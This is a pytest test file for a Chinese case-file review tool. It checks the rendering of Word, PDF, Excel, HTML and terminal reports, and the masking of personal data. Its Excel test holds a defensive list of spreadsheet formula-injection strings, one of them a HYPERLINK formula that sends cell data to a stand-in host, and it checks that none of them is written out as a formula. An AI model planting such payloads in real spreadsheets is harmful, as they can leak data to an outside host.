"""The review as a district files it: the Word 评查意见书 (read back, and printed to PDF by LibreOffice), the HTML
printed by headless Chromium without a table wider than A4, typed Excel cells that never hold a formula from a
case file, the terminal at 80 columns, and the format chosen by -o's extension."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT

DEMO = ROOT / "fixtures" / "demo"
REVIEW = ["review", str(DEMO), "--quarter", "2024Q2", "--workers", "1"]
SNAPSHOTS = Path(__file__).parent / "snapshots"


def run(args, *extra, env=None):
    return subprocess.run([sys.executable, "-m", "engine.cli", *args, *extra], capture_output=True, text=True,
                          cwd=ROOT, timeout=240, env={**os.environ, **(env or {})})


@pytest.fixture(scope="module")
def review_json():
    out = run(REVIEW, "--format", "json")
    assert out.returncode in (0, 1), out.stderr
    return json.loads(out.stdout)


@pytest.fixture(scope="module")
def review_doc(make_checker):
    """The review Document of the demo's 2024Q2, built in process (for the renderers' unit tests)."""
    from engine.check import CheckResult
    from engine.exemptions import PartyHistory
    from engine.loader import load_paths
    from engine.report.builders import review_document
    from engine.review import review

    loaded = load_paths([DEMO])
    checker = make_checker("2024-06-30", history=PartyHistory(c.case for c in loaded.cases))
    results = list(checker.check(loaded.cases))
    check = CheckResult(results, [], dt.date(2024, 6, 30), "tianjin", "rules-x", "2004–2026")
    grades = (("优秀", 90), ("良好", 80), ("合格", 60), ("不合格", 0))
    return review_document(review(check, "2024Q2", grades), "zh")


# ------------------------------------------------------------------------------------------ findings first
def test_review_json_lists_failed_files_first_each_finding_explained(review_json):
    rows = review_json["sections"]["findings"]
    assert rows, "the demo's 2024Q2 has findings"
    for r in rows:
        assert r["title"] and r["message"] and r["basis"] and r["category"] and r["deduction"] is not None
        assert "veto" in r and "due" in r and "late" in r
    order = ["不合格", "合格", "良好", "优秀"]
    keys = [(order.index(r["grade"]), r["score"]) for r in rows]
    assert keys == sorted(keys), "files that lost points are sorted by grade (不合格 first), then score"
    assert rows[0]["grade"] == "不合格"
    late = [r for r in rows if r["late"]]
    assert late and all(r["due"] for r in late)
    clean = review_json["sections"]["clean"]
    assert len(clean) + len({r["case_id"] for r in review_json["sections"]["files"]}) \
        == review_json["summary"]["cases_reviewed"]
    assert not {r["case_id"] for r in clean} & {r["case_id"] for r in rows}


# ------------------------------------------------------------------------------------------ -o and --format
@pytest.mark.parametrize("ext,magic", [(".html", b"<!DOCTYPE html>"), (".xlsx", b"PK"), (".docx", b"PK"),
                                       (".json", b"{"), (".txt", "案卷评查报告".encode())])
def test_output_extension_decides_the_format(tmp_path, ext, magic):
    out = tmp_path / f"q2{ext}"
    r = run(REVIEW, "-o", str(out))
    assert r.returncode in (0, 1), r.stderr
    assert out.read_bytes().startswith(magic)
    if ext in (".xlsx", ".docx"):
        import zipfile

        names = zipfile.ZipFile(out).namelist()
        assert ("xl/workbook.xml" if ext == ".xlsx" else "word/document.xml") in names


def test_contradicting_format_and_extension_is_a_usage_error(tmp_path):
    out = tmp_path / "x.xlsx"
    r = run(REVIEW, "--format", "json", "-o", str(out))
    assert r.returncode == 2 and "xlsx" in r.stderr and not out.exists()
    r = run(["check", str(DEMO), "--as-of", "2024-12-31", "--format", "html", "-o", str(tmp_path / "c.docx")])
    assert r.returncode == 2
    r = run(REVIEW, "-o", str(tmp_path / "x.pdf"))
    assert r.returncode == 2 and ".pdf" in r.stderr


def test_check_writes_html_xlsx_and_docx(tmp_path):
    from docx import Document as Docx

    for ext in ("html", "xlsx", "docx"):
        r = run(["check", str(DEMO), "--as-of", "2024-12-31", "--workers", "1", "-o", str(tmp_path / f"c.{ext}")])
        assert r.returncode == 1, r.stderr
    text = "\n".join(p.text for p in Docx(str(tmp_path / "c.docx")).paragraphs)
    assert "超出简易程序适用范围" in text and "第五十一条" in text
    assert "超出简易程序适用范围" in (tmp_path / "c.html").read_text(encoding="utf-8")


# ------------------------------------------------------------------------------------------ Word
def _docx_text(data: bytes) -> str:
    from docx import Document as Docx

    d = Docx(io.BytesIO(data))
    parts = [p.text for p in d.paragraphs]
    for t in d.tables:
        for row in t.rows:
            parts.append(" | ".join(c.text for c in row.cells))
    return "\n".join(parts)


def test_docx_has_the_report_and_one_opinion_per_file(review_doc):
    from docx import Document as Docx
    from docx.shared import Mm

    from engine.report.render import render

    data = render(review_doc, "docx")
    d = Docx(io.BytesIO(data))
    sec = d.sections[0]
    assert abs(sec.page_width - Mm(210)) < Mm(1) and abs(sec.page_height - Mm(297)) < Mm(1)
    footer_xml = sec.footer._element.xml
    assert "PAGE" in footer_xml                                          # page numbers
    fonts = d.styles["Normal"].element.xml
    assert "仿宋" in fonts                                               # a CJK body font
    text = _docx_text(data)
    for heading in ("评查情况报告", "一、评查范围", "二、评查方法", "三、评查结果", "四、发现的典型问题",
                    "五、执法人员和执法领域情况", "六、与上季度评查情况比较", "七、整改要求"):
        assert heading in text, heading
    files = {r["case_id"] for r in review_doc.section("findings").rows}
    assert sum(p.text == "案卷评查意见书" and p.style.name == "Title" for p in d.paragraphs) == len(files)
    for r in review_doc.section("findings").rows:
        assert r["case_id"] in text and r["message"] in text and r["basis"] in text
    assert "整改要求" in text and "无法整改" in text        # the demo has a decision made after the 90 days


@pytest.mark.skipif(shutil.which("soffice") is None and not os.environ.get("CASECHECK_REQUIRE_BROWSER"),
                    reason="LibreOffice (libreoffice-writer-nogui) is not installed")
def test_docx_prints_to_pdf_with_its_text(review_doc, tmp_path):
    from pypdf import PdfReader

    from engine.report.render import render

    path = tmp_path / "q2.docx"
    path.write_bytes(render(review_doc, "docx"))
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "pdf",
                    "--outdir", str(tmp_path), str(path)], check=True, capture_output=True, timeout=180)
    reader = PdfReader(str(tmp_path / "q2.pdf"))
    text = re.sub(r"\s+", "", "".join(p.extract_text() for p in reader.pages))
    assert len(reader.pages) >= 1 + len({r["case_id"] for r in review_doc.section("findings").rows})
    assert "评查情况报告" in text and "案卷评查意见书" in text and "整改要求" in text
    assert "超出简易程序适用范围" in text
    box = reader.pages[0].mediabox
    assert abs(float(box.width) - 595) < 3 and abs(float(box.height) - 842) < 3       # A4 in points


# ------------------------------------------------------------------------------------------ Excel
HOSTILE = ['=HYPERLINK("http://x.example/?d="&A2,"点此查看")', "+1+2", "-3+4", "@SUM(A1:A2)", "\t=1+1", "=1+1"]


def test_xlsx_types_and_no_formula_from_a_case_file(tmp_path):
    from openpyxl import load_workbook

    from engine.report.document import Column, Document, Section, stamp
    from engine.report.render import render

    doc = Document("stats", "zh", "测试", stamp("r", "c", "p", dt.date(2024, 12, 31)))
    cols = [Column("name", "当事人", "party"), Column("day", "日期", "day", "date"), Column("n", "件数", "n", "int"),
            Column("yuan", "罚款（元）", "fines", "money"), Column("rate", "参与率", "rate", "pct"),
            Column("flag", "已逾期", "overdue", "bool")]
    rows = [{"name": h, "day": "2024-03-01", "n": 3, "yuan": 1234.5, "rate": "95.2%", "flag": i % 2 == 0}
            for i, h in enumerate(HOSTILE)]
    doc.sections.append(Section("t", "表", "t", cols, rows))
    path = tmp_path / "t.xlsx"
    path.write_bytes(render(doc, "xlsx"))
    ws = load_workbook(path)["表"]
    assert [c.value for c in ws[1]] == ["当事人", "日期", "件数", "罚款（元）", "参与率", "已逾期"]
    for i, h in enumerate(HOSTILE, 2):
        name, day, n, yuan, rate, flag = ws[i]
        assert name.data_type == "s" and name.value == h, (name.data_type, name.value)
        assert day.is_date and day.value.date() == dt.date(2024, 3, 1) and day.number_format == "yyyy-mm-dd"
        assert n.data_type == "n" and n.value == 3
        assert yuan.data_type == "n" and yuan.value == 1234.5 and "0.00" in yuan.number_format
        assert rate.data_type == "n" and abs(rate.value - 0.952) < 1e-9 and rate.number_format.endswith("%")
        assert flag.value in ("是", "否")
    assert ws.auto_filter.ref == f"A1:F{len(HOSTILE) + 1}" and ws.freeze_panes == "A2"
    assert ws.print_title_rows in ("1:1", "$1:$1") and ws.page_setup.paperSize in ("9", 9)
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth in (1, "1")
    assert ws.column_dimensions["A"].width > 10
    import zipfile

    sheet_xml = "".join(zipfile.ZipFile(path).read(n).decode("utf-8") for n in zipfile.ZipFile(path).namelist()
                        if n.startswith("xl/worksheets/"))
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml                 # not a single formula


def test_review_xlsx_holds_dates_numbers_and_agency_names(tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "q2.xlsx"
    assert run(REVIEW, "-o", str(out)).returncode in (0, 1)
    wb = load_workbook(out)
    ws = wb["全部案卷评分"]
    header = [c.value for c in ws[1]]
    date_col, score_col, agency_col = header.index("决定/结案日"), header.index("得分"), header.index("执法主体")
    rows = list(ws.iter_rows(min_row=2))
    assert rows and all(r[date_col].is_date for r in rows) and all(r[score_col].data_type == "n" for r in rows)
    assert all(not str(r[agency_col].value).isascii() for r in rows)          # names, not codes
    findings = wb["失分案卷及问题"]
    assert findings.auto_filter.ref and findings.freeze_panes == "A2"


# ------------------------------------------------------------------------------------------ terminal
def _normalise(text: str) -> str:
    return re.sub(r"引擎 .*", "<stamp>", text, flags=re.S)


def test_terminal_at_80_columns_matches_the_snapshot(review_doc):
    from rich.cells import cell_len

    from engine.report.render import terminal_text

    text = terminal_text(review_doc, width=80)
    assert max(cell_len(line) for line in text.splitlines()) <= 80
    for r in review_doc.section("findings").rows:
        assert r["case_id"] in text                          # never one character per line
    assert "rule_id" not in text and ".yaml" not in text and "publicity." not in text   # no internal codes
    snap = SNAPSHOTS / "review-2024Q2-80.txt"
    if os.environ.get("CASECHECK_UPDATE_SNAPSHOTS") or not snap.exists():
        snap.parent.mkdir(exist_ok=True)
        snap.write_text(_normalise(text), encoding="utf-8")
    assert _normalise(text) == snap.read_text(encoding="utf-8"), \
        "terminal layout changed: look at it, then CASECHECK_UPDATE_SNAPSHOTS=1 to accept"


def test_redirected_output_uses_columns_80():
    from rich.cells import cell_len

    r = run(REVIEW, env={"COLUMNS": "80"})
    assert r.returncode in (0, 1)
    lines = r.stdout.splitlines()
    assert max(cell_len(line) for line in lines) <= 80
    assert "津南学罚〔2024〕5号" in r.stdout and "超出简易程序适用范围" in r.stdout
    single = [len(line.strip("│ ")) == 1 for line in lines]
    assert not any(a and b for a, b in zip(single, single[1:])), "a character-per-line wrap"
    verbose = run(REVIEW, "--verbose", env={"COLUMNS": "80"})
    assert "simple_procedure" in verbose.stdout or "." in verbose.stdout


# ------------------------------------------------------------------------------------------ print
def chromium():
    return shutil.which("chromium") or shutil.which("chromium-browser")


MEASURE = """<script>
window.addEventListener('load', () => {
  const page = document.documentElement.clientWidth;
  const wide = [...document.querySelectorAll('table')].filter(t => t.getBoundingClientRect().right > page + 1
      || t.scrollWidth > t.clientWidth + 1).length;
  document.body.setAttribute('data-page', page);
  document.body.setAttribute('data-wide', wide);
  document.body.setAttribute('data-tables', document.querySelectorAll('table').length);
});
</script></body>"""


@pytest.mark.skipif(chromium() is None and not os.environ.get("CASECHECK_REQUIRE_BROWSER"),
                    reason="Debian's chromium is not installed (make test installs it; CI requires it)")
@pytest.mark.parametrize("job", ["review", "alerts"])
def test_html_prints_on_a4_without_overflow(tmp_path, job):
    from pypdf import PdfReader

    assert chromium(), "CASECHECK_REQUIRE_BROWSER is set but chromium is missing"
    args = REVIEW if job == "review" else ["alerts", str(DEMO), "--as-of", "2024-06-20", "--within", "10"]
    html = tmp_path / f"{job}.html"
    assert run(args, "-o", str(html)).returncode in (0, 1)
    source = html.read_text(encoding="utf-8")
    assert "display: table-header-group" in source and "size: A4" in source    # headers repeat on each page
    probe = tmp_path / f"{job}-probe.html"
    probe.write_text(source.replace("</body>", MEASURE), encoding="utf-8")
    common = [chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
              "--disable-component-update", "--disable-sync", "--no-first-run",
              f"--user-data-dir={tmp_path / 'chromium-profile'}"]
    # A4 minus the 12 mm side margins of @page is 186 mm = 703 CSS px
    dom = subprocess.run(common + ["--window-size=703,1000", "--virtual-time-budget=3000", "--dump-dom",
                                   probe.as_uri()], capture_output=True, text=True, timeout=120)
    match = re.search(r'data-page="(\d+)" data-wide="(\d+)" data-tables="(\d+)"', dom.stdout)
    assert match, dom.stderr[-2000:]
    page, wide, tables = map(int, match.groups())
    assert page <= 703 and tables > 0 and wide == 0, f"{wide} of {tables} tables are wider than the A4 page"
    pdf = tmp_path / f"{job}.pdf"
    subprocess.run(common + ["--no-pdf-header-footer", f"--print-to-pdf={pdf}", html.as_uri()], capture_output=True,
                   timeout=120)
    reader = PdfReader(str(pdf))
    text = re.sub(r"\s+", "", "".join(p.extract_text() for p in reader.pages))
    title = "案卷评查报告" if job == "review" else "期限预警"
    assert title in text and "规则库" in text                             # the title and the stamp
    box = reader.pages[0].mediabox
    assert abs(float(box.width) - 595) < 3 and abs(float(box.height) - 842) < 3


# ------------------------------------------------------------------------------------------ personal data
def test_personal_data_masked_unless_unmasked(tmp_path):
    import yaml

    ids = set()
    for path in DEMO.rglob("*.yaml"):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        party = (data or {}).get("party") if isinstance(data, dict) else None
        if party and party.get("kind") == "person":
            ids.add(str(party["id"]))
    assert ids
    masked = run(REVIEW, "--format", "json")
    assert not any(i in masked.stdout for i in ids), "a raw ID number in the masked JSON"
    report = json.loads(masked.stdout)
    assert report["stamp"]["masking"] == "个人信息已脱敏"
    parties = [r["party"] for r in report["sections"]["cases"] if r["party"]]
    people = [p for p in parties if re.search(r"（\d{6}\*{8}[\dX]{4}）", p)]
    assert people and all("*" not in p for p in parties if p not in people)    # a company's credit code is public
    html = tmp_path / "q2.html"
    assert run(REVIEW, "-o", str(html)).returncode in (0, 1)
    assert not any(i in html.read_text(encoding="utf-8") for i in ids) and "个人信息已脱敏" in html.read_text("utf-8")
    unmasked = run(REVIEW, "--format", "json", "--unmask")
    assert any(i in unmasked.stdout for i in ids)
    assert json.loads(unmasked.stdout)["stamp"]["masking"].startswith("个人信息未脱敏")


def test_mask_text_masks_ids_and_phones_in_free_text():
    from engine.report.privacy import mask_address, mask_id, mask_text

    assert mask_id("120104197208494381") == "120104********4381"
    text = mask_text("当事人身份证 12010419720849438X，电话 13812345678，座机 022-23456789，案号 2024001")
    assert "12010419720849438X" not in text and "120104********438X" in text
    assert "13812345678" not in text and "138****5678" in text and "022-****6789" in text and "2024001" in text
    assert mask_address("天津市南开区学府街道某路 12 号") == "天津市南开区****"
